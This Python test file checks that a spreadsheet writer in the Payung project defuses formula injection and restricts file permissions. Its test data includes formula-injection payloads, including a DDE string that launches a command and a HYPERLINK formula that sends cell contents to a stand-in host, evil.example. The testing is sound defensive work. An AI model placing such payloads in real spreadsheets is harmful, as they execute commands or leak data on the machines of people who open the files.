"""What somebody typed is a text in every file that Payung writes: no formula, no link, no program."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import payung
from payung.values.spreadsheet import CsvWriter, csv_file, safe_cell, workbook

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "=cmd|'/C calc'!A0",
    "+62811",
    "-2+3",
    "@SUM(1+1)",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\tSiti",
]
HARMLESS = [
    "",
    "Siti",
    "0812",
    "Jl. Contoh 1 = 2",
    "a@b.id",
    "Rp5-10",
    "RT 2; RW 3",
    "a, b",
    5,
    -5,
    1.5,
    None,
    True,
]
#: Read where a semicolon parts cells, or a tab, or a line ends: the second cell would run.
TWO_CELLS = {
    "Siti;=1+1": "Siti;'=1+1",
    'Siti; =HYPERLINK("http://evil.example/";"klik")': 'Siti; \'=HYPERLINK("http://evil.example/";"klik")',
    'Siti;"=1+1"': 'Siti;"\'=1+1"',
    "Siti,@SUM(1)": "Siti,'@SUM(1)",
    "Siti\t+62": "Siti\t'+62",
    "Siti|-1": "Siti|'-1",
    "Siti\n=1": "Siti\n'=1",
    "Siti\r\n=1": "Siti\r\n'=1",
    "Siti\u2028=1": "Siti\u2028'=1",
    "Siti;\u00a0\uff1d1": "Siti;\u00a0'\uff1d1",
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "\n=1+1": "'\n'=1+1",
    ";;=1;-2": ";;'=1;'-2",
    "=1;=2": "'=1;'=2",
}


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_would_run_becomes_a_text(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", HARMLESS)
def test_anything_else_stays_as_it_is(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", TWO_CELLS)
def test_a_second_cell_within_a_text_runs_nothing_either(text):
    assert safe_cell(text) == TWO_CELLS[text]


@pytest.mark.parametrize("before", [None, 0o644, 0o666])
@pytest.mark.parametrize("write", ["csv", "xlsx"])
def test_a_file_is_for_its_user_only_also_over_an_older_one(tmp_path, before, write):
    path = tmp_path / f"nama.{write}"
    if before:
        path.write_text("lama" * 1000)
        path.chmod(before)
    if write == "csv":
        with csv_file(path) as file:
            CsvWriter(file).writerow(["Siti"])
        assert path.read_bytes() == b"Siti\r\n"
    else:
        with workbook(str(path)) as book:
            book.add_worksheet().write_row(0, 0, ["Siti"])
    assert path.stat().st_mode & 0o777 == 0o600


@given(
    st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4), min_size=1)
)
def test_no_cell_of_a_written_csv_begins_like_a_formula_and_no_text_is_lost(rows):
    file = io.StringIO(newline="")
    CsvWriter(file).writerows(rows)
    file.seek(0)
    back = list(csv.reader(file))
    assert len(back) == len(rows)
    for sent, got in zip(rows, back, strict=True):
        for before, after in zip(sent, got, strict=True):
            assert after.replace("'", "") == before.replace("'", "")
            assert not re.search(r"[;,|\t\r\n][\"\s\u200b\ufeff\x00]*[=+\-@\uff1d\uff0b\uff0d\uff20]", after)
            assert not re.match(r"[\s\u200b\ufeff\x00]*[=+\-@\uff1d\uff0b\uff0d\uff20]", after)


def test_a_workbook_keeps_texts_as_texts():
    content = io.BytesIO()
    with workbook(content) as book:
        book.add_worksheet().write_row(0, 0, [*DANGEROUS[:6], "http://contoh.id", "6571010101800001"])
    cells = next(openpyxl.load_workbook(content).active.iter_rows())
    assert [cell.data_type for cell in cells] == ["s"] * 8
    assert all(cell.hyperlink is None for cell in cells)


#: Not written for a spreadsheet: staging into the database, a hash of the input, the synthetic province's own lists.
ELSEWHERE = {"values/spreadsheet.py", "database/staging.py", "planning/inputs.py"}
MADE_SAFE_BEFORE = {"cli/law_population.py"}


_WRITES = re.compile(r"csv\.writer|DictWriter|xlsxwriter\.Workbook\(|\.write_csv\(|write_excel")


def test_every_csv_and_workbook_is_written_by_the_one_writer():
    root = Path(payung.__file__).parent
    found = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if re.search(
            r"csv\.writer|DictWriter|xlsxwriter\.Workbook\(|\.write_csv\(|write_excel",
            path.read_text("utf-8"),
        )
    }
    assert {name for name in found if not name.startswith("demo/")} == ELSEWHERE | MADE_SAFE_BEFORE
